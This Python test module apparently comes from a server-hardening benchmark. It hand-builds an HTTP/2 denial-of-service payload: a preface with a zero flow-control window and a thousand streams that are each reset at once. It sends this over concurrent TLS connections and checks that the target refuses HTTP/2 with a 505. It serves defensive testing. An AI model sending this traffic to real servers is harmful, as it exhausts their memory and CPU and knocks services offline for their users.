"""HTTP/2, with which one connection held and cost as much as a hundred.

It was spoken where TLS was: windows of 0 held 1.1 GB with 200 connections, and streams that are reset took
84 % of a core with one. Clients offer it in TLS, and speak it all the same where it was not agreed on.
"""

from collections import Counter
from functools import partial

import trio

from bench.attack.harness import Report
from bench.attack.tools import ATTACKERS, RefusedError, Target, connect, crowd

NUMBER = "12.2"
TLS = True
SHORT = 4.0
_AT_ONCE = 8

# RFC 9113, section 3.4: the preface, and SETTINGS with an initial window of 0.
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\6\4\0\0\0\0\0" + b"\0\4\0\0\0\0"


def _streams() -> bytes:
    """A thousand requests for the page, each reset at once: GET, https and / of HPACK's static table."""
    return b"".join(
        b"\0\0\3\1\5" + number.to_bytes(4, "big") + b"\x82\x87\x84"
        + b"\0\0\4\3\0" + number.to_bytes(4, "big") + b"\0\0\0\x08"
        for number in range(1, 2001, 2)
    )  # fmt: skip


async def attack(target: Target, seconds: float) -> dict[str, int]:
    return await crowd(_AT_ONCE, seconds, partial(_speak, target), again=0.05)


async def _speak(target: Target, number: int, counts: Counter[str]) -> None:
    offered = [("h2",), ("h2", "http/1.1"), ()][number % 3]
    async with await connect(target, ATTACKERS[0], alpn=offered) as stream:
        assert isinstance(stream, trio.SSLStream)
        counts["agreed on h2"] += stream.selected_alpn_protocol() == "h2"
        await stream.send_all(_PREFACE + _streams())
        answer = await stream.receive_some(65536)
        counts["refused"] += answer.startswith(b"HTTP/1.1 505 ")
        counts["answered"] += bool(answer) and not answer.startswith(b"HTTP/1.1 505 ")
    raise RefusedError(505)  # again


def check(report: Report) -> None:
    """It is neither agreed on nor answered, but by the 505 of HTTP/1.1."""
    assert report.counts["refused"] > 0, report.counts
    assert report.counts["agreed on h2"] == report.counts["answered"] == 0, report.counts
